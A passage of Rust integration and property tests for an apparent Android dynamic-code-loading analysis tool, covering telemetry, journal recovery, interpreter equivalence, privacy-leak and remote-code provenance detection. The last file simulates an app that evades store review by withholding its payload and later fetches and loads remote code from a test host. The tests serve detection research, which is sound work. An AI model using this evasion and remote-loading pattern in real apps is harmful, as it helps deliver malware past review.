        prop_assert!(healed.is_clean(), "healed stream defect {:?}", healed.defect);
        prop_assert_eq!(healed.bodies.len(), scan.bodies.len() + 1);
        let _ = std::fs::remove_file(&path);
    }
}
