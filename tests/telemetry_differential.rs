//! Differential and consistency tests for the telemetry layer: spans and
//! metrics must never change a measured byte, the Chrome-trace export
//! must be structurally valid, the event stream must agree with the
//! journal, and a resumed sweep must stitch into the previous timeline
//! without reusing span ids.

use std::collections::HashSet;
use std::path::PathBuf;

use dydroid::obs::chrome_trace;
use dydroid::{Journal, Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

fn tiny_corpus() -> Vec<SyntheticApp> {
    generate(&CorpusSpec {
        scale: 0.004,
        seed: 99,
    })
}

fn small_corpus(n: usize) -> Vec<SyntheticApp> {
    let mut corpus = tiny_corpus();
    corpus.truncate(n);
    corpus
}

fn temp_journal(tag: &str) -> Journal {
    let path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_telemetry_{tag}_{}.jsonl",
        std::process::id()
    ));
    let journal = Journal::new(path);
    journal.reset().expect("reset journal");
    journal
}

/// The tentpole invariant: telemetry on and off produce byte-identical
/// report JSON — observability rides on `SweepStats`, which is excluded
/// from serialization.
#[test]
fn telemetry_on_and_off_reports_are_byte_identical() {
    let corpus = tiny_corpus();

    let on_pipeline = Pipeline::new(PipelineConfig::default());
    let on = on_pipeline.run(&corpus);
    let off = Pipeline::new(PipelineConfig {
        telemetry: false,
        ..PipelineConfig::default()
    })
    .run(&corpus);

    let on_json = serde_json::to_string(&on).expect("serialise telemetry-on report");
    let off_json = serde_json::to_string(&off).expect("serialise telemetry-off report");
    assert!(!on_json.is_empty());
    assert_eq!(on_json, off_json, "telemetry changed the measured results");

    // The telemetry-on run actually recorded: one app span per app, and
    // per-phase histograms surfaced into the perf stats.
    let stats = on.stats();
    assert_eq!(stats.app_wall.count, corpus.len() as u64);
    assert!(stats.app_wall.p50 <= stats.app_wall.p95);
    assert!(stats.app_wall.p95 <= stats.app_wall.p99);
    assert!(
        stats
            .phases
            .iter()
            .any(|(name, _)| name == "span.monkey.us"),
        "phase histograms missing the monkey span: {:?}",
        stats.phases.iter().map(|(n, _)| n).collect::<Vec<_>>()
    );
    let perf = on.render_perf();
    assert!(
        perf.contains("per-app wall"),
        "render_perf lacks percentiles: {perf}"
    );
    assert!(
        perf.contains("span.monkey.us"),
        "render_perf lacks phase table: {perf}"
    );

    // The telemetry-off run recorded nothing.
    assert_eq!(off.stats().app_wall.count, 0);
    assert!(off.stats().phases.is_empty());
}

/// The Chrome-trace document produced by a real sweep parses back and
/// carries one complete-event entry per retained span.
#[test]
fn chrome_trace_from_sweep_parses_back() {
    let corpus = small_corpus(60);
    let pipeline = Pipeline::new(PipelineConfig::default());
    let _ = pipeline.run(&corpus);

    let spans = pipeline.telemetry().spans();
    assert!(!spans.is_empty(), "sweep recorded no spans");
    let doc = chrome_trace(&spans);
    let text = serde_json::to_string(&doc).expect("serialise trace");
    let parsed: serde_json::Value = serde_json::from_str(&text).expect("trace parses back");
    let events = parsed
        .get("traceEvents")
        .and_then(|e| e.as_array())
        .expect("traceEvents array");
    assert_eq!(events.len(), spans.len());
    for event in events {
        let obj = event.as_object().expect("event is an object");
        for key in ["name", "cat", "ph", "ts", "dur", "pid", "tid", "args"] {
            assert!(
                obj.iter().any(|(k, _)| k == key),
                "trace event missing {key:?}"
            );
        }
        assert_eq!(event.get("ph").and_then(|v| v.as_str()), Some("X"));
    }
    // Phase spans reference their app span through args.parent.
    let ids: HashSet<u64> = spans.iter().map(|s| s.id).collect();
    for span in &spans {
        if span.parent != 0 {
            assert!(
                ids.contains(&span.parent),
                "span {} has dangling parent {}",
                span.id,
                span.parent
            );
        }
    }
}

/// A completed journaled run finalizes the event stream to its canonical
/// form: checksummed frames with contiguous sequence numbers whose bodies
/// are per-app checkpoint and provenance facts in corpus order — free of
/// span ids and timestamps, so the finalized stream is byte-stable
/// however the sweep interleaved.
#[test]
fn completed_event_stream_is_canonical_and_agrees_with_journal() {
    let corpus = small_corpus(60);
    let journal = temp_journal("canonical");

    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..PipelineConfig::default()
    });
    let _ = pipeline
        .run_resumable(&corpus, &journal)
        .expect("initial sweep");

    let events_text = std::fs::read_to_string(journal.events_path()).expect("events file");
    let mut checkpoints: Vec<String> = Vec::new();
    let mut provenance_links: Vec<String> = Vec::new();
    for (i, line) in events_text
        .lines()
        .filter(|l| !l.trim().is_empty())
        .enumerate()
    {
        let v: serde_json::Value = serde_json::from_str(line).expect("event frame parses");
        assert_eq!(
            v.get("seq").and_then(|s| s.as_u64()),
            Some(i as u64),
            "finalized frames must be contiguously sequenced"
        );
        let body = v.get("body").expect("framed event has a body");
        assert!(
            body.get("span").is_none() && body.get("t_us").is_none(),
            "canonical events must not carry span ids or timestamps: {line}"
        );
        let app = body
            .get("app")
            .and_then(|a| a.as_str())
            .expect("event app")
            .to_string();
        match body.get("type").and_then(|t| t.as_str()) {
            Some("checkpoint") => checkpoints.push(app),
            Some("provenance") => provenance_links.push(app),
            other => panic!("unexpected canonical event type {other:?}"),
        }
    }
    let journaled: Vec<String> = journal
        .load()
        .expect("journal")
        .into_iter()
        .map(|r| r.package)
        .collect();
    assert_eq!(journaled.len(), corpus.len());
    let corpus_order: Vec<String> = corpus.iter().map(|a| a.package().to_string()).collect();
    assert_eq!(
        journaled, corpus_order,
        "finalized journal is corpus-ordered"
    );
    assert_eq!(
        checkpoints, corpus_order,
        "checkpoints diverge from the corpus"
    );
    assert_eq!(
        provenance_links, corpus_order,
        "provenance links diverge from the corpus"
    );

    journal.reset().expect("cleanup");
    assert!(
        !journal.events_path().exists(),
        "journal reset must remove the event stream"
    );
}

/// A run killed mid-sweep (via the virtual-clock I/O harness) leaves a
/// live event stream whose surviving checkpoints reference recorded app
/// spans; a fresh pipeline resumes it, stitches the prior session's spans
/// into its own timeline without reusing a span id, and completes the
/// corpus.
#[test]
fn interrupted_event_stream_stitches_into_the_resumed_timeline() {
    let corpus = small_corpus(60);
    let journal = temp_journal("stitch");

    let config = PipelineConfig {
        environment_reruns: false,
        // This test inspects the *mid-run* base event stream, so pin the
        // single-writer layout: with auto workers a multi-core machine
        // would shard the checkpoints into per-shard files until merge.
        workers: 1,
        ..PipelineConfig::default()
    };
    let mut first = Pipeline::new(config.clone());
    // Freeze every persistent stream at write op 150 — mid-sweep, after
    // some apps have fully checkpointed.
    first.set_io_harness(dydroid::IoHarness::new(Some(150), None));
    let _ = first
        .run_resumable(&corpus, &journal)
        .expect("interrupted sweep still returns");

    // The torn live stream: span lines precede the checkpoints that
    // reference them, so every surviving checkpoint resolves.
    let events_text = std::fs::read_to_string(journal.events_path()).expect("events file");
    let mut app_spans: HashSet<u64> = HashSet::new();
    let mut first_ids: Vec<u64> = Vec::new();
    let mut checkpoints: Vec<(String, u64)> = Vec::new();
    for line in events_text.lines().filter(|l| !l.trim().is_empty()) {
        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
            continue; // torn tail
        };
        let Some(body) = v.get("body") else { continue };
        match body.get("type").and_then(|t| t.as_str()) {
            Some("span") => {
                let id = body.get("id").and_then(|i| i.as_u64()).expect("span id");
                first_ids.push(id);
                if body.get("name").and_then(|n| n.as_str()) == Some("app") {
                    app_spans.insert(id);
                }
            }
            Some("checkpoint") => {
                let app = body
                    .get("app")
                    .and_then(|a| a.as_str())
                    .expect("checkpoint app")
                    .to_string();
                let span = body.get("span").and_then(|s| s.as_u64()).expect("span ref");
                checkpoints.push((app, span));
            }
            _ => {}
        }
    }
    assert!(!first_ids.is_empty(), "crash left no spans to stitch");
    for (app, span) in &checkpoints {
        assert!(
            app_spans.contains(span),
            "checkpoint for {app} references unknown span {span}"
        );
    }

    let second = Pipeline::new(config);
    let resumed = second
        .run_resumable(&corpus, &journal)
        .expect("resumed sweep");
    assert_eq!(resumed.records().len(), corpus.len());
    assert_eq!(journal.load().expect("journal").len(), corpus.len());

    // The resumed pipeline's timeline contains the stitched first-session
    // spans plus its own, with globally unique ids.
    let spans = second.telemetry().spans();
    let resumed_ids: Vec<u64> = spans.iter().map(|s| s.id).collect();
    let unique: HashSet<&u64> = resumed_ids.iter().collect();
    assert_eq!(unique.len(), resumed_ids.len(), "span ids collide");
    let stitched: HashSet<u64> = first_ids.iter().copied().collect();
    assert!(
        first_ids.iter().all(|id| unique.contains(id)),
        "stitched timeline lost first-session spans"
    );
    assert!(
        spans.iter().any(|s| !stitched.contains(&s.id)),
        "resume recorded no new spans"
    );

    journal.reset().expect("cleanup");
}

/// A trace file requested through the config lands on disk and is valid
/// JSON even for a plain (non-journaled) run.
#[test]
fn trace_out_config_writes_a_loadable_file() {
    let corpus = small_corpus(20);
    let trace_path = std::env::temp_dir().join(format!(
        "dydroid_telemetry_trace_{}.trace.json",
        std::process::id()
    ));
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        trace_out: Some(trace_path.to_string_lossy().into_owned()),
        ..PipelineConfig::default()
    });
    let _ = pipeline.run(&corpus);
    let text = std::fs::read_to_string(&trace_path).expect("trace file written");
    let parsed: serde_json::Value = serde_json::from_str(&text).expect("trace parses");
    assert!(
        parsed
            .get("traceEvents")
            .and_then(|e| e.as_array())
            .is_some_and(|a| !a.is_empty()),
        "trace has no events"
    );
    assert_eq!(
        parsed.get("displayTimeUnit").and_then(|v| v.as_str()),
        Some("ms")
    );
    let _ = std::fs::remove_file(&trace_path);
}
