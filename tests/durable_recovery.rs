//! Property tests for the framed durable-record format: arbitrary record
//! streams survive arbitrary truncation and single-bit corruption without
//! ever being mis-parsed — the scanner recovers exactly the intact prefix
//! and detects (never silently accepts) the first damaged frame.

use dydroid::durable::{encode_frame, encode_frames, scan_stream};
use proptest::prelude::*;

/// Arbitrary single-line JSON record bodies, the payload shape every
/// persistent stream (journal, ledger, events) writes.
fn bodies_from(fields: &[(u32, u8)]) -> Vec<String> {
    fields
        .iter()
        .map(|(a, b)| format!("{{\"app\":\"com.p{a}\",\"flows\":{b}}}"))
        .collect()
}

/// Byte offset where frame `k` of the encoded stream ends.
fn frame_boundary(start_seq: u64, bodies: &[String], k: usize) -> usize {
    bodies
        .iter()
        .take(k)
        .enumerate()
        .map(|(i, b)| encode_frame(start_seq + i as u64, b).len())
        .sum()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// A freshly encoded stream round-trips losslessly and scans clean.
    /// (A whole valid stream always numbers its frames 0..n.)
    #[test]
    fn encoded_streams_round_trip(
        fields in prop::collection::vec((any::<u32>(), any::<u8>()), 0..12),
    ) {
        let bodies = bodies_from(&fields);
        let encoded = encode_frames(0, &bodies);
        let scan = scan_stream(encoded.as_bytes());
        prop_assert!(scan.is_clean(), "clean stream must scan clean: {:?}", scan.defect);
        prop_assert_eq!(&scan.bodies, &bodies);
        prop_assert_eq!(scan.dropped, 0);
        prop_assert_eq!(scan.next_seq, bodies.len() as u64);
        prop_assert_eq!(scan.valid_len as usize, encoded.len());
    }

    /// Truncating the stream at any byte offset recovers exactly the
    /// frames wholly before the cut; the torn tail is detected, never
    /// parsed into a record.
    #[test]
    fn truncation_recovers_the_intact_prefix(
        fields in prop::collection::vec((any::<u32>(), any::<u8>()), 0..12),
        at in any::<prop::sample::Index>(),
    ) {
        let bodies = bodies_from(&fields);
        let encoded = encode_frames(0, &bodies);
        let cut = at.index(encoded.len() + 1);
        let scan = scan_stream(&encoded.as_bytes()[..cut]);

        // The number of frames that fit entirely within the cut.
        let intact = (0..=bodies.len())
            .rev()
            .find(|&k| frame_boundary(0, &bodies, k) <= cut)
            .unwrap();
        prop_assert_eq!(scan.bodies.len(), intact);
        prop_assert_eq!(&scan.bodies, &bodies[..intact].to_vec());
        prop_assert_eq!(scan.valid_len as usize, frame_boundary(0, &bodies, intact));
        let at_boundary = cut == scan.valid_len as usize;
        prop_assert_eq!(scan.is_clean(), at_boundary);

        // The valid prefix the scanner reports is itself a clean stream,
        // so truncating a file back to `valid_len` fully repairs it.
        let rescan = scan_stream(&encoded.as_bytes()[..scan.valid_len as usize]);
        prop_assert!(rescan.is_clean());
        prop_assert_eq!(&rescan.bodies, &scan.bodies);
    }

    /// Flipping any single bit anywhere in the stream is always detected:
    /// every frame before the damaged one is recovered verbatim, and the
    /// damaged frame is dropped rather than accepted with altered content.
    #[test]
    fn single_bit_flips_never_mis_parse(
        fields in prop::collection::vec((any::<u32>(), any::<u8>()), 1..12),
        at in any::<prop::sample::Index>(),
        bit in 0u32..8,
    ) {
        let bodies = bodies_from(&fields);
        let mut encoded = encode_frames(0, &bodies).into_bytes();
        let idx = at.index(encoded.len());
        encoded[idx] ^= 1 << bit;
        let scan = scan_stream(&encoded);

        // The frame whose bytes contain the flip.
        let flipped = (0..bodies.len())
            .find(|&k| idx < frame_boundary(0, &bodies, k + 1))
            .unwrap();
        prop_assert!(!scan.is_clean(), "bit flip at byte {idx} went undetected");
        prop_assert_eq!(scan.bodies.len(), flipped);
        prop_assert_eq!(&scan.bodies, &bodies[..flipped].to_vec());
        prop_assert_eq!(scan.valid_len as usize, frame_boundary(0, &bodies, flipped));
    }
}
