//! Differential tests for the interpreter fast path: the interned /
//! pre-resolved / inline-cached engine must not change a single measured
//! byte versus the legacy string-resolving reference interpreter —
//! report JSON, provenance ledger, per-app verdicts — while its caches
//! demonstrably do the work.

use dydroid::{Pipeline, PipelineConfig};
use dydroid_avm::{Device, DeviceConfig, Interner, Process, Value};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::{AccessFlags, CmpKind, Manifest, MethodRef};
use dydroid_workload::faults::{IoFaultScript, IoFaultSpec};
use dydroid_workload::{generate, CorpusSpec};
use proptest::prelude::*;

fn fast_config() -> PipelineConfig {
    PipelineConfig::default()
}

fn legacy_config() -> PipelineConfig {
    PipelineConfig {
        legacy_interp: true,
        ..PipelineConfig::default()
    }
}

/// The tentpole invariant at corpus scale: sweeping the same apps on the
/// fast interpreter yields report JSON byte-identical to the legacy
/// reference — and only the fast run's inline caches fire.
#[test]
fn fast_sweep_report_is_byte_identical_to_legacy() {
    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: CorpusSpec::default().seed,
    });

    let fast_pipeline = Pipeline::new(fast_config());
    let fast = fast_pipeline.run(&corpus);
    let legacy_pipeline = Pipeline::new(legacy_config());
    let legacy = legacy_pipeline.run(&corpus);

    let fast_json = serde_json::to_string(&fast).expect("serialise fast report");
    let legacy_json = serde_json::to_string(&legacy).expect("serialise legacy report");
    assert!(!fast_json.is_empty(), "report must not serialise empty");
    assert_eq!(
        fast_json, legacy_json,
        "the fast interpreter changed the measured results"
    );

    // The cache machinery actually ran on the fast path (this corpus's
    // apps guard their loaders to run once, so call sites execute once
    // per process and the counters legitimately skew to misses; the
    // probe tests below pin down hit behaviour); the legacy path must
    // not touch the counters at all.
    let fs = fast.stats();
    assert!(
        fs.ic_call_hits + fs.ic_call_misses > 0,
        "fast sweep must exercise call-site inline caches"
    );
    let ls = legacy.stats();
    assert_eq!(
        ls.ic_call_hits + ls.ic_call_misses,
        0,
        "legacy has no call ICs"
    );
    assert_eq!(
        ls.ic_field_hits + ls.ic_field_misses,
        0,
        "legacy has no field ICs"
    );
}

/// Provenance ledgers written under injected transient I/O faults are
/// byte-identical between the two interpreters: same records, same
/// order, same retry-survived frames. One worker keeps the write
/// sequence deterministic so both runs fault the exact same ops.
#[test]
fn ledger_under_faults_is_byte_identical_between_interpreters() {
    let corpus = generate(&CorpusSpec {
        scale: 0.004,
        seed: 41,
    });
    let dir = std::env::temp_dir().join(format!("avm_diff_{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("create temp dir");

    let mut ledgers = Vec::new();
    for (name, config) in [("fast", fast_config()), ("legacy", legacy_config())] {
        let path = dir.join(format!("ledger_{name}.jsonl"));
        let mut pipeline = Pipeline::new(PipelineConfig {
            workers: 1,
            environment_reruns: false,
            provenance_out: Some(path.to_string_lossy().into_owned()),
            ..config
        });
        pipeline.set_io_harness(dydroid::IoHarness::new(
            None,
            Some(IoFaultScript::new(IoFaultSpec { rate: 0.1, seed: 9 })),
        ));
        let _ = pipeline.run(&corpus);
        ledgers.push(std::fs::read(&path).expect("read ledger"));
    }

    assert!(!ledgers[0].is_empty(), "fast run must write a ledger");
    assert_eq!(
        ledgers[0], ledgers[1],
        "fast and legacy provenance ledgers diverge under I/O faults"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Builds the polymorphic probe program: `Sub0..Sub2` override `v()I`,
/// and a single shared call site (`Main.call`) dispatches on whatever
/// receiver the script in `choices` constructs — the worst case for a
/// monomorphic call-site cache.
fn polymorphic_program(choices: &[u8]) -> dydroid_dex::DexFile {
    let mut b = DexBuilder::new();
    b.class("com.p.Base", "java.lang.Object");
    for i in 0..3u8 {
        let c = b.class(format!("com.p.Sub{i}"), "com.p.Base");
        let m = c.method("v", "()I", AccessFlags::PUBLIC);
        m.const_int(1, i64::from(i) * 10 + 1);
        m.ret(1);
    }
    let c = b.class("com.p.Main", "java.lang.Object");
    {
        // The single shared call site every receiver flows through.
        let call = c.method(
            "call",
            "(Ljava/lang/Object;)I",
            AccessFlags::PUBLIC | AccessFlags::STATIC,
        );
        call.registers(2);
        call.invoke_virtual(MethodRef::new("com.p.Base", "v", "()I"), vec![0]);
        call.move_result(1);
        call.ret(1);
    }
    let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
    m.registers(6);
    m.const_int(0, 0); // acc
    for &choice in choices {
        m.new_instance(1, format!("com.p.Sub{}", choice % 3));
        m.invoke_static(
            MethodRef::new("com.p.Main", "call", "(Ljava/lang/Object;)I"),
            vec![1],
        );
        m.move_result(2);
        m.binop(dydroid_dex::BinOp::Add, 0, 0, 2);
    }
    m.ret(0);
    b.build()
}

fn run_twice(classes: dydroid_dex::DexFile, legacy: bool) -> (Value, Value, u64) {
    let mut device = Device::new(DeviceConfig {
        legacy_interp: legacy,
        ..DeviceConfig::default()
    });
    let manifest = Manifest::new("com.p");
    let mut proc = Process::new("com.p".to_string(), classes, &manifest);
    let first = {
        let mut vm = dydroid_avm::interp::Vm::new(&mut device, &mut proc);
        vm.call_entry("com.p.Main", "f").expect("first run")
    };
    // Second entry on the same process: every resolution the fast path
    // serves now comes from warm code caches and (where the receiver
    // repeats) warm inline caches.
    let second = {
        let mut vm = dydroid_avm::interp::Vm::new(&mut device, &mut proc);
        vm.call_entry("com.p.Main", "f").expect("second run")
    };
    (first, second, proc.ic_stats().hits())
}

proptest! {
    /// Interning any sequence of names round-trips exactly, is
    /// idempotent, and assigns one dense id per distinct string.
    #[test]
    fn interner_round_trips(names in proptest::collection::vec(".{0,24}", 0..48)) {
        let mut interner = Interner::new();
        let syms: Vec<_> = names.iter().map(|n| interner.intern(n)).collect();
        for (name, sym) in names.iter().zip(&syms) {
            prop_assert_eq!(interner.resolve(*sym), name.as_str());
            prop_assert_eq!(interner.intern(name), *sym);
            prop_assert_eq!(interner.get(name), Some(*sym));
        }
        let distinct: std::collections::HashSet<&String> = names.iter().collect();
        prop_assert_eq!(interner.len(), distinct.len());
    }

    /// A warm inline cache never changes what a call site resolves to:
    /// for any receiver script, the cold run, the warm re-run, and the
    /// cacheless legacy interpreter all compute the same value.
    #[test]
    fn ic_hit_never_changes_resolution(choices in proptest::collection::vec(any::<u8>(), 1..24)) {
        let expected: i64 = choices
            .iter()
            .map(|&c| i64::from(c % 3) * 10 + 1)
            .sum();

        let (fast_cold, fast_warm, _) = run_twice(polymorphic_program(&choices), false);
        let (legacy_cold, legacy_warm, legacy_hits) =
            run_twice(polymorphic_program(&choices), true);

        prop_assert_eq!(&fast_cold, &Value::Int(expected));
        prop_assert_eq!(&fast_warm, &fast_cold, "warm caches changed the result");
        prop_assert_eq!(&legacy_cold, &fast_cold);
        prop_assert_eq!(&legacy_warm, &fast_cold);
        prop_assert_eq!(legacy_hits, 0, "legacy interpreter must not touch ICs");
    }
}

/// Deterministic IC sanity on the same probe: a steady monomorphic site
/// hits after its first miss, and repeated receiver flips keep the
/// results correct while forcing misses.
#[test]
fn monomorphic_site_hits_after_first_miss() {
    // Same receiver class 8 times: 1 miss + 7 hits at the shared site.
    let (cold, warm, hits) = run_twice(polymorphic_program(&[0; 8]), false);
    assert_eq!(cold, Value::Int(8));
    assert_eq!(warm, cold);
    assert!(hits > 0, "monomorphic call site never hit its cache");
}

/// The fuel meter is engine-independent: an infinite loop burns the
/// budget to exhaustion identically in both interpreters (the fall-off
/// and branch accounting must match instruction for instruction).
#[test]
fn fuel_accounting_is_identical_across_engines() {
    let mut used = Vec::new();
    for legacy in [false, true] {
        let mut b = DexBuilder::new();
        let c = b.class("com.p.Main", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(4);
        m.const_int(0, 40_000);
        m.const_int(1, 1);
        let head = m.label();
        let done = m.label();
        m.bind(head);
        m.if_zero(CmpKind::Le, 0, done);
        m.binop(dydroid_dex::BinOp::Sub, 0, 0, 1);
        m.goto(head);
        m.bind(done);
        m.ret_void();
        let mut device = Device::new(DeviceConfig {
            legacy_interp: legacy,
            ..DeviceConfig::default()
        });
        let manifest = Manifest::new("com.p");
        let mut proc = Process::new("com.p".to_string(), b.build(), &manifest);
        assert!(proc.run_entry(&mut device, "com.p.Main", "f"));
        used.push(device.instructions_retired());
    }
    assert_eq!(used[0], used[1], "fuel accounting diverged between engines");
}
