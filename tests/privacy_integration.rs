//! Privacy-tracking integration (Table X): the FlowDroid-like analysis
//! over intercepted code recovers exactly the leaks the corpus planted,
//! with correct entity attribution.

use dydroid::{Pipeline, PipelineConfig};
use dydroid_analysis::taint::PrivacyType;
use dydroid_workload::{generate, CorpusSpec};

fn spec() -> CorpusSpec {
    CorpusSpec {
        scale: 0.02,
        seed: 4242,
    }
}

#[test]
fn planted_leaks_are_recovered_exactly() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);

    for (app, record) in corpus.iter().zip(report.records()) {
        if !record.dex_intercepted() {
            continue;
        }
        let d = record.dynamic.as_ref().unwrap();
        let detected: std::collections::BTreeSet<PrivacyType> =
            d.leak_types.iter().map(|l| l.privacy).collect();

        // Expected: the plan's types plus Settings for ad apps.
        let mut expected = std::collections::BTreeSet::new();
        if app.plan.google_ads {
            expected.insert(PrivacyType::Settings);
        }
        for leak in &app.plan.privacy {
            expected.insert(PrivacyType::ALL[leak.type_index]);
        }
        if app.plan.remote_fetch {
            expected.insert(PrivacyType::Settings); // baidu payload is ad-like
        }
        if app.plan.malware.is_some() || app.plan.packer || app.plan.vuln.is_some() {
            continue; // special payloads have their own content
        }
        assert_eq!(detected, expected, "leak mismatch for {}", app.plan.package);
    }
}

#[test]
fn ad_library_reads_only_settings() {
    // The paper: "15,012 apps loading the Google Ads library, which has
    // strict control of user privacy and only reads the device settings".
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let app = corpus
        .iter()
        .find(|a| a.plan.google_ads && a.plan.privacy.is_empty())
        .expect("pure ad app");
    let record = pipeline.analyze_app(app);
    let d = record.dynamic.unwrap();
    assert_eq!(d.leak_types.len(), 1);
    assert_eq!(d.leak_types[0].privacy, PrivacyType::Settings);
    assert!(d.leak_types[0].exclusively_third_party);
}

#[test]
fn exclusivity_attribution_matches_plan() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let mut checked_third = 0;
    let mut checked_own = 0;
    for app in &corpus {
        if app.plan.privacy.is_empty() || app.plan.malware.is_some() || app.plan.packer {
            continue;
        }
        let record = pipeline.analyze_app(app);
        if !record.dex_intercepted() {
            continue;
        }
        let Some(d) = record.dynamic else { continue };
        for plan_leak in &app.plan.privacy {
            let privacy = PrivacyType::ALL[plan_leak.type_index];
            let Some(found) = d.leak_types.iter().find(|l| l.privacy == privacy) else {
                continue;
            };
            assert_eq!(
                found.exclusively_third_party, plan_leak.exclusively_third_party,
                "exclusivity wrong for {:?} in {}",
                privacy, app.plan.package
            );
            if plan_leak.exclusively_third_party {
                checked_third += 1;
            } else {
                checked_own += 1;
            }
        }
    }
    assert!(checked_third > 0, "no third-party leaks verified");
    assert!(checked_own > 0, "no own-code leaks verified");
}

#[test]
fn table10_shape_matches_paper() {
    let corpus = generate(&CorpusSpec {
        scale: 0.05,
        seed: 4242,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t10 = report.table10();

    let row = |p: PrivacyType| t10.rows.iter().find(|r| r.privacy == p).unwrap();

    // Settings dominates (paper: 16,482 of 16,768 ≈ 98%).
    let settings = row(PrivacyType::Settings);
    assert!(
        settings.apps as f64 / t10.population as f64 > 0.9,
        "settings {} of {}",
        settings.apps,
        t10.population
    );
    // IMEI is the most-leaked identifier after Settings (paper: 581).
    let imei = row(PrivacyType::Imei);
    for p in [
        PrivacyType::Imsi,
        PrivacyType::Iccid,
        PrivacyType::PhoneNumber,
    ] {
        assert!(imei.apps >= row(p).apps);
    }
    // Location and installed packages are leaked by many apps
    // (paper: 254 and 235), more than the rare CP types.
    assert!(row(PrivacyType::Location).apps > row(PrivacyType::Contact).apps);
    assert!(row(PrivacyType::InstalledPackages).apps > row(PrivacyType::Sms).apps);
    // Exclusivity: overwhelmingly third-party everywhere it applies.
    for r in &t10.rows {
        if r.apps >= 5 {
            assert!(
                r.exclusively_third_party as f64 / r.apps as f64 > 0.7,
                "{:?}: {}/{}",
                r.privacy,
                r.exclusively_third_party,
                r.apps
            );
        }
    }
}
