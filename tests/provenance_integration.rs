//! Provenance integration: the download tracker must separate remotely
//! fetched code from locally packed code across real app executions,
//! including the paper's Google-Bouncer evasion experiment.

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec};

#[test]
fn corpus_remote_fetchers_and_only_them_are_flagged() {
    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t5 = report.table5();

    let truth: std::collections::HashSet<&str> = corpus
        .iter()
        .filter(|a| a.plan.remote_fetch)
        .map(|a| a.plan.package.as_str())
        .collect();
    let detected: std::collections::HashSet<&str> =
        t5.apps.iter().map(|(p, _)| p.as_str()).collect();

    assert_eq!(detected, truth, "remote-fetch detection must be exact");
    for (_, urls) in &t5.apps {
        assert!(urls.iter().all(|u| u.contains("mobads.baidu.com")));
    }
}

#[test]
fn locally_packed_dcl_is_never_flagged_remote() {
    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    // Pick ad-SDK apps: they stage payloads from local assets.
    let mut checked = 0;
    for app in corpus.iter().filter(|a| a.plan.google_ads).take(5) {
        let record = pipeline.analyze_app(app);
        if let Some(d) = record.dynamic {
            if !d.dex_events.is_empty() {
                assert!(
                    d.remote_loads.is_empty(),
                    "{} stages from assets, not the network",
                    app.plan.package
                );
                checked += 1;
            }
        }
    }
    assert!(checked > 0, "no ad apps exercised");
}

/// The paper's Bouncer experiment: App_L passes review while the malware
/// server is disabled, then fetches and runs App_M after release.
#[test]
fn bouncer_evasion_scenario() {
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_monkey::{Monkey, MonkeyConfig};

    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let app = corpus
        .iter()
        .find(|a| a.plan.remote_fetch)
        .expect("remote-fetch app in corpus");

    // Review phase: the server withholds the payload. The app still gets
    // published (it merely fails its fetch; no remote code observed).
    let mut device = Device::new(DeviceConfig::default());
    for (domain, path, bytes) in &app.remote_resources {
        device.net.host(domain, path, bytes.clone());
        device.net.set_enabled(domain, false);
    }
    device.install(&app.apk).unwrap();
    let mut monkey = Monkey::new(MonkeyConfig::default());
    let _ = monkey.exercise(&mut device, app.package()).unwrap();
    assert_eq!(
        device.log.dcl_events().count(),
        0,
        "no dynamic load observable during review"
    );

    // After release: the server enables delivery and the code runs.
    let mut device = Device::new(DeviceConfig::default());
    for (domain, path, bytes) in &app.remote_resources {
        device.net.host(domain, path, bytes.clone());
    }
    device.install(&app.apk).unwrap();
    let mut monkey = Monkey::new(MonkeyConfig::default());
    let outcome = monkey.exercise(&mut device, app.package()).unwrap();
    assert!(outcome.is_clean());
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(device.hooks.flow.is_remote(&events[0].path));
}

/// File → File edges: a rename after download must keep remote provenance.
#[test]
fn rename_preserves_remote_provenance_in_app() {
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

    let pkg = "com.test.renamer";
    let tmp = format!("/data/data/{pkg}/cache/tmp.bin");
    let final_path = format!("/data/data/{pkg}/files/real.dex");

    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));
    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(12);
    dydroid_workload::emit::download_to_file(m, "http://cdn.test.com/p.bin", &tmp);
    // Rename the staging file to its final location.
    m.new_instance(7, "java.io.File");
    m.const_str(8, &tmp);
    m.invoke_direct(
